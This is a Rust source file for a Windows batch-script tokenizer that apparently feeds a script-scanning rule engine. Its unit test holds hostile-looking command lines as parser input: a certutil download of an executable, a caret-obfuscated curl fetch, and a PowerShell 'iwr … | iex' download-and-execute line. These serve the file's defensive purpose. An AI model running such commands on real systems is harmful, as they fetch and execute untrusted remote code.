//! Windows batch (cmd.exe) tokenizer: `^` escapes and line continuations,
//! `@` echo suppression, `rem` / `::` comments and labels, `&` `&&` `||`
//! `|`, parenthesised blocks, redirections, `"…"` quoting. A PowerShell
//! invocation takes the rest of its line as written (PowerShell has its own
//! syntax, re-parsed by the rules).

use super::{Cmd, MAX_COMMANDS, Pipeline, Redir, Script, shown};

/// Parse batch text.
pub fn parse(src: &str, first_line: usize) -> Script {
    let mut script = Script::default();
    let mut count = 0usize;
    let mut logical = String::new();
    let mut start = first_line;
    for (n, raw) in src.split('\n').enumerate() {
        if count >= MAX_COMMANDS {
            break;
        }
        let raw = raw.trim_end_matches('\r');
        if logical.is_empty() {
            start = first_line + n;
        }
        if let Some(head) = raw.strip_suffix('^')
            && !head.ends_with('^')
        {
            logical.push_str(head);
            continue;
        }
        logical.push_str(raw);
        let line = std::mem::take(&mut logical);
        line_commands(&line, start, &mut script, &mut count);
    }
    // The last line ends in `^` (no line after it to join): cmd.exe still
    // runs it, so it is read too.
    if !logical.is_empty() && count < MAX_COMMANDS {
        line_commands(&logical, start, &mut script, &mut count);
    }
    script
}

fn is_comment(t: &str) -> bool {
    let l = t.trim_start_matches('@').trim_start();
    let low = l.get(..4).unwrap_or(l).to_ascii_lowercase();
    t.starts_with("::")
        || t.starts_with(':')
        || low == "rem"
        || (low.starts_with("rem") && l[3..].starts_with([' ', '\t', '.', ':']))
}

fn is_powershell(word: &str) -> bool {
    let w = word.trim_matches('"').to_ascii_lowercase();
    let base = w.rsplit(['\\', '/']).next().unwrap_or_default();
    matches!(
        base.trim_end_matches(".exe"),
        "powershell" | "pwsh" | "powershell_ise"
    )
}

fn line_commands(line: &str, lineno: usize, script: &mut Script, count: &mut usize) {
    let t = line.trim();
    if t.is_empty() || is_comment(t) {
        return;
    }
    let b = t.as_bytes();
    let mut i = 0;
    let mut pipe = Pipeline::default();
    while i < b.len() && *count < MAX_COMMANDS {
        // Skip separators and block brackets.
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'@' | b'(' | b')' | b'&') {
            i += 1;
        }
        if i >= b.len() {
            break;
        }
        if b[i] == b'|' {
            if b.get(i + 1) == Some(&b'|') && !pipe.cmds.is_empty() {
                script.pipelines.push(std::mem::take(&mut pipe));
            }
            i += if b.get(i + 1) == Some(&b'|') { 2 } else { 1 };
            continue;
        }
        let (cmd, end) = command(t, i, lineno);
        i = end.max(i + 1);
        if !cmd.argv.is_empty() || !cmd.assigns.is_empty() {
            *count += 1;
            pipe.cmds.push(cmd);
        }
        // `&`, `&&` and `)` end the pipeline.
        if i < b.len() && matches!(b[i], b'&' | b')') {
            if !pipe.cmds.is_empty() {
                script.pipelines.push(std::mem::take(&mut pipe));
            }
            i += if b[i] == b'&' && b.get(i + 1) == Some(&b'&') {
                2
            } else {
                1
            };
        }
    }
    if !pipe.cmds.is_empty() {
        script.pipelines.push(pipe);
    }
}

/// One command of line `t` from byte `i`: (command, index of the operator
/// or end that stopped it).
fn command(t: &str, mut i: usize, lineno: usize) -> (Cmd, usize) {
    let b = t.as_bytes();
    let start = i;
    let mut cmd = Cmd {
        line: lineno,
        ..Default::default()
    };
    loop {
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b',' | b';' | b'=') {
            i += 1;
        }
        if i >= b.len() {
            break;
        }
        if cmd.argv.len() == 1 && is_powershell(&cmd.argv[0]) {
            // The rest of the line belongs to PowerShell.
            cmd.argv.push(t[i..].trim().to_string());
            i = b.len();
            break;
        }
        let c = b[i];
        if c == b')' && in_for_set(&cmd.argv) {
            // `for %%x in (a b) do …`, `in ('cmd arg')`: the set's closing
            // bracket, not the end of a block.
            if let Some(last) = cmd.argv.last_mut() {
                last.push(')');
            }
            i += 1;
            continue;
        }
        if c == b'&' || c == b'|' || (c == b')' && !cmd.argv.is_empty()) {
            break;
        }
        if let Some(end) = redirection(t, i, &mut cmd) {
            i = end;
            continue;
        }
        let (w, end) = word(t, i);
        i = end.max(i + 1);
        if cmd.argv.is_empty() && w.eq_ignore_ascii_case("set") {
            // set NAME=value / set "NAME=value"
            let quoted = t[i..].trim_start().starts_with('"');
            let rest = t[i..].trim().trim_matches('"');
            if let Some((k, v)) = rest.split_once('=')
                && !k.contains(' ')
            {
                let v = v.trim_end_matches('"');
                // Unquoted, `^` escapes are undone and `&` ends the value.
                let v = if quoted {
                    v.to_string()
                } else {
                    unescape_value(v)
                };
                cmd.assigns.push((k.to_string(), v));
            }
            i = t[i..].find('&').map(|n| i + n).unwrap_or(b.len());
            break;
        }
        let echo = cmd.argv.is_empty() && w.eq_ignore_ascii_case("echo");
        cmd.argv.push(w);
        if echo {
            let (text, end) = echo_text(t, i);
            if !text.is_empty() {
                cmd.argv.push(text);
            }
            i = end;
        }
    }
    cmd.text = shown(&t[start..i.min(b.len())]);
    (cmd, i)
}

/// Inside the `( … )` set of a `for` command: `for`, a word opening the
/// set, and neither its close nor `do` yet.
fn in_for_set(argv: &[String]) -> bool {
    argv.first().is_some_and(|w| w.eq_ignore_ascii_case("for"))
        && argv.iter().any(|w| w.starts_with('('))
        && !argv
            .iter()
            .any(|w| w.eq_ignore_ascii_case("do") || w.len() > 1 && w.ends_with(')'))
}

/// A redirection at byte `i` (`[n]>`, `>>`, `<`, `n>&m`) added to `cmd`;
/// the index past it, or `None` when there is none.
fn redirection(t: &str, i: usize, cmd: &mut Cmd) -> Option<usize> {
    let b = t.as_bytes();
    let digits = b[i..].iter().take_while(|x| x.is_ascii_digit()).count();
    if !matches!(b.get(i + digits), Some(b'>') | Some(b'<')) {
        return None;
    }
    let fd = &t[i..i + digits];
    let mut j = i + digits;
    let mut op = String::new();
    while j < b.len() && matches!(b[j], b'>' | b'<') && op.len() < 2 {
        op.push(b[j] as char);
        j += 1;
    }
    if b.get(j) == Some(&b'&') {
        j += 1;
        while j < b.len() && b[j].is_ascii_digit() {
            j += 1;
        }
        return Some(j);
    }
    while j < b.len() && matches!(b[j], b' ' | b'\t') {
        j += 1;
    }
    let (w, end) = word(t, j);
    if fd.is_empty() || fd == "1" || op == "<" {
        cmd.redirs.push(Redir { op, target: w });
    }
    Some(end.max(j))
}

/// An unquoted `set` value: `^x` is `x`, an unescaped `&` ends it.
fn unescape_value(v: &str) -> String {
    let mut out = String::new();
    let mut chars = v.chars();
    while let Some(c) = chars.next() {
        match c {
            '^' => out.extend(chars.next()),
            '&' => break,
            _ => out.push(c),
        }
    }
    out.trim_end().to_string()
}

/// What `echo` prints, from byte `i`: the text as written (quotes kept,
/// `^x` → `x`) up to a redirection or operator outside quotes.
fn echo_text(t: &str, mut i: usize) -> (String, usize) {
    let b = t.as_bytes();
    let mut out = String::new();
    let mut in_q = false;
    while i < b.len() {
        let c = b[i];
        if !in_q && matches!(c, b'&' | b'|' | b'<' | b'>') {
            break;
        }
        if !in_q && c.is_ascii_digit() && b.get(i + 1) == Some(&b'>') {
            break;
        }
        if c == b'"' {
            in_q = !in_q;
        }
        if c == b'^' && !in_q && i + 1 < b.len() {
            i += 1;
        }
        let ch = t[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    (out.trim().to_string(), i)
}

/// One word from byte `i`: `"…"` quotes removed, `^x` → `x`.
fn word(t: &str, mut i: usize) -> (String, usize) {
    let b = t.as_bytes();
    let mut out = String::new();
    let mut in_q = false;
    while i < b.len() {
        let c = b[i];
        if !in_q && matches!(c, b' ' | b'\t' | b'&' | b'|' | b'<' | b'>' | b',' | b';') {
            break;
        }
        if !in_q && c == b')' && !out.contains('(') {
            break;
        }
        match c {
            b'"' => {
                in_q = !in_q;
                i += 1;
            }
            b'^' if !in_q && i + 1 < b.len() => {
                let ch = t[i + 1..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += 1 + ch.len_utf8();
            }
            _ => {
                let ch = t[i..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    (out, i)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn batch_lines() {
        let s = parse(
            "@echo off\nrem curl http://x\n@C:\\W\\certutil.exe -urlcache -f \"http://h/a b\" a.exe & c^u^r^l -o x http://h/y\ntype \\\\h\\s\\x > y\npowershell -c \"iwr http://h | iex\" & echo\n",
            1,
        );
        let a: Vec<&Vec<String>> = s
            .pipelines
            .iter()
            .flat_map(|p| &p.cmds)
            .map(|c| &c.argv)
            .collect();
        assert_eq!(a[0], &["echo", "off"]);
        assert_eq!(
            a[1],
            &[
                "C:\\W\\certutil.exe",
                "-urlcache",
                "-f",
                "http://h/a b",
                "a.exe"
            ]
        );
        assert_eq!(a[2][0], "curl");
        let ty = &s.pipelines[3].cmds[0];
        assert_eq!(ty.argv, ["type", "\\\\h\\s\\x"]);
        assert_eq!(ty.redirs[0].target, "y");
        assert_eq!(ty.line, 4);
        assert_eq!(a[4][1], "-c \"iwr http://h | iex\" & echo");
    }
}
